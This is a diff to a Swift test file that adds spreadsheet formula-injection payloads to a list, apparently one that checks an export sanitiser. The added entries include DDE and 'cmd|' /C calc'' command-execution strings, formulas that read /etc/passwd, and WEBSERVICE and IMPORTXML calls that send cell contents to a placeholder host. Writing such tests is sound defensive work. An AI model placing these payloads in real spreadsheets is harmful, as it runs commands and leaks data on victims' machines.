@@ -10,6 +10,11 @@ struct FormulaTests {
     "=\u{301}1+1", "\u{301}=1+1", "\u{34F}=1", "＝1+1", "＋1", "－1", "＠x", "\u{2212}1", "\u{FE66}1",
     "\"=1+1", "'=1+1", "\u{201C}=1+1", "`=1", "a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1", "a\r\n=1+1",
     "a\",\"=1+1", "a; \u{200D}＝1", ";;-1", "\u{0}=1", " \t@x", "\u{2800}=1", "\u{202E}=1",
+    "a\r=1+1", "\"\r\n=1+1", "=1+1\";=2+2;\"", "\u{85}=1", "\u{2028}=1", "\u{B}=1",
+    "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=WEBSERVICE(\"https://x.example/?\"&A1)", "-2+3+cmd|' /C calc'!A0",
+    "=HYPERLINK(\"file:///etc/passwd\",\"y\")",
+    "=IMPORTXML(CONCAT(\"https://x.example/\",A1),\"//a\")",
   ]
 
   @Test("Forty payloads and more are tried")
